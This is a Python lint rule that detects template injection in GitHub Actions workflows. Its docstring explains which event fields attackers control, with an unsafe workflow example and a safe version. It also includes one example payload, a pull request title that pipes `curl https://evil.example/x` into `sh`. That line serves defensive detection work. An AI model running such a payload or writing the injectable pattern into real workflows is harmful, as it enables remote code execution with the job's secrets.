"""GH110 template-injection."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from opslint import Finding, Severity, rule
from opslint.model.ci import GithubPipeline, Step
from opslint.model.facets import ShellCommand
from opslint.model.yamltree import YScalar

from ._workflow import action, script_of, step_groups, step_input

_EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
_AUTHOR = r"(author|committer)\.(email|name)"
_UNTRUSTED = re.compile(
    r"\bgithub\.head_ref\b|\bgithub\.event\.("
    r"(issue|pull_request|discussion|\*)\.(title|body)"
    r"|pull_request\.head\.(ref|label|repo\.default_branch)"
    r"|(comment|review|review_comment|\*)\.body"
    r"|pages\.[^.\s]+\.page_name"
    rf"|(commits\.[^.\s]+|head_commit)\.(message|{_AUTHOR})"
    r"|workflow_run\.(head_branch|display_title|pull_requests\.[^.\s]+\.head\.ref"
    rf"|head_commit\.(message|{_AUTHOR}))"
    r")(?![\w-])"
)
_INDEX = re.compile(r"\[\s*(?:'([^']*)'|\"([^\"]*)\"|(\d+|\*))\s*\]")
_BOOLEAN = re.compile(r"^\s*!?\s*(contains|startswith|endswith)\s*\(.*\)\s*$", re.DOTALL)


def normalize(expression: str) -> str:
    """An expression in one spelling: lower case, `a['b']` as `a.b`, `a[0]` as `a.*`."""

    def dotted(match: re.Match[str]) -> str:
        name = match.group(1) or match.group(2)
        return f".{name}" if name is not None else ".*"

    return _INDEX.sub(dotted, expression.lower())


def untrusted(expression: str) -> str | None:
    """The attacker-controlled context an expression expands, if its value is text."""
    text = normalize(expression)
    match = _UNTRUSTED.search(text)
    if match is None:
        return None
    logic = "&&" in text or "||" in text
    if not logic and (_BOOLEAN.match(text) or "==" in text or "!=" in text):
        return None
    return match.group(0)


_CODE_INPUTS = {
    "actions/github-script": ("script",),
    "amadevus/pwsh-script": ("script",),
    "jannekem/run-python-script-action": ("script",),
    "cardinalby/js-eval-action": ("expression",),
    "addnab/docker-run-action": ("options", "run"),
}
"""Actions whose inputs are evaluated as code, and those inputs (zizmor's own sinks)."""


def _scripts(step: Step, lines: Sequence[str]) -> Iterator[tuple[ShellCommand, str]]:
    if step.run is not None:
        yield step.run, "run"
    for name in _CODE_INPUTS.get(action(step), ()):
        script = step_input(step, name)
        if isinstance(script, YScalar) and script.value is not None:
            yield script_of(script, lines, action(step), step.logical), f"`{name}` input"


@rule(
    "GH110",
    "template-injection",
    Severity.ERROR,
    tags=("github", "security"),
    security_severity=8.8,
    peers=(
        "zizmor template-injection",
        "checkov CKV_GHA_2",
        "actionlint expression (partial)",
    ),
)
def template_injection(pipeline: GithubPipeline) -> Iterator[Finding]:
    """Attacker-controlled event fields are never expanded with `${{ }}` inside scripts.

    ## What it does
    Reports every `${{ ... }}` in a `run:` script (workflows and composite actions), in
    the `script:` of `actions/github-script`, or in an input another action evaluates as
    code (`amadevus/pwsh-script` and `jannekem/run-python-script-action` `script`,
    `cardinalby/js-eval-action` `expression`, `addnab/docker-run-action` `run` and
    `options`) that expands text anyone can write: issue,
    pull request and discussion titles and bodies, comment and review bodies, the pull
    request's head branch (`github.head_ref`, `github.event.pull_request.head.ref` and
    `.label`), commit messages and author or committer names and emails
    (`github.event.head_commit`, `github.event.commits.*`, `workflow_run.head_commit`),
    `workflow_run.head_branch` and `.display_title`, and wiki page names
    (`github.event.pages.*.page_name`). Index spellings (`github.event['issue']['title']`,
    `commits[0]`) are read as the same field, and an object filter
    (`github.event.*.body`) as every field it can select. An expression that only yields a boolean
    (`contains(github.event.issue.title, 'bug')`, a comparison) is not reported. The
    finding points at the `${{` token itself, also inside multi-line scripts.

    ## Why it matters
    `${{ }}` is substituted into the script's text before the shell (or JavaScript) runs
    it. A pull request titled `a"; curl https://evil.example/x | sh; echo "` becomes
    part of the command and runs with the job's token and secrets. A branch name or
    commit message can carry the same payload. Passing the value through an environment
    variable keeps it data: the shell never parses it as code.

    ## Example
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-24.04
        steps:
          - run: echo "New issue: ${{ github.event.issue.title }}"
    ```

    ## Use instead
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-24.04
        steps:
          - run: echo "New issue: $TITLE"
            env:
              TITLE: ${{ github.event.issue.title }}
    ```

    ## Fix
    None: the variable's name and its quoting in the script are for the author to choose.

    ## Variants
    - `run:` scripts of workflow and composite action steps (zizmor template-injection,
      checkov CKV_GHA_2, actionlint): covered.
    - The `script:` of `actions/github-script` (zizmor, actionlint): covered.
    - Other actions' inputs that run as code: `amadevus/pwsh-script` and
      `jannekem/run-python-script-action` `script`, `cardinalby/js-eval-action`
      `expression`, `addnab/docker-run-action` `run` and `options` (zizmor): covered.
    - The rest of zizmor's sink list, generated from CodeQL's models of actions at its
      build time: not covered: opslint ships no copy of those models.
    - Issue, pull request and discussion titles and bodies; comment, review and review
      comment bodies; wiki page names; commit messages and author names and emails of
      `head_commit` and `commits.*`; the pull request's head ref, label and repository
      default branch; `github.head_ref` (checkov CKV_GHA_2, actionlint, zizmor): covered.
    - Committer names and emails, `workflow_run`'s head branch, display title, head commit
      and pull request head refs (zizmor): covered.
    - Index spellings, `github.event['issue']['title']` and `commits[0]` (actionlint):
      covered.
    - Object filters, `github.event.*.body` (actionlint): covered.
    - An expression around the field (`toJSON(...)`, `a || b`), where checkov's patterns
      only match `${{ field }}` alone: covered.
    - Functions that only yield a boolean (`contains`, `startsWith`, `endsWith`) and
      comparisons (actionlint's safe calls): covered, as not reported.
    - `inputs.*` of `workflow_dispatch` and `workflow_call` (zizmor, lower confidence): not
      covered: those who can dispatch a workflow can already change it, and a reusable
      workflow's inputs come from its caller.
    - `steps.*.outputs.*`, `needs.*.outputs.*`, `env.*` and `matrix.*` carrying a field
      (zizmor, pedantic or lower confidence): not covered: it needs the values followed
      from step to step, which opslint does not do.
    - The other fields zizmor's context table marks as arbitrary text (labels, milestones,
      releases, repository descriptions, user profile fields, about 2,500 paths): not
      covered: most are written by the repository's own members, and the rest would turn
      the rule into a list opslint cannot keep current.

    ## References
    - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
    - https://securitylab.github.com/resources/github-actions-untrusted-input/
    - https://docs.zizmor.sh/audits/#template-injection
    """
    lines = pipeline.source.lines
    for _, steps in step_groups(pipeline):
        for step in steps:
            for script, where in _scripts(step, lines):
                for match in _EXPRESSION.finditer(script.text):
                    field = untrusted(match.group(1))
                    if field is None:
                        continue
                    token = match.group(0).split("\n", 1)[0]
                    yield Finding(
                        script.locate(match.start(), len(token)),
                        f"`{field}` is attacker-controlled and `${{{{ }}}}` pastes it into "
                        f"the {where} as code: pass it through `env:` and use the variable",
                        logical=step.logical,
                    )
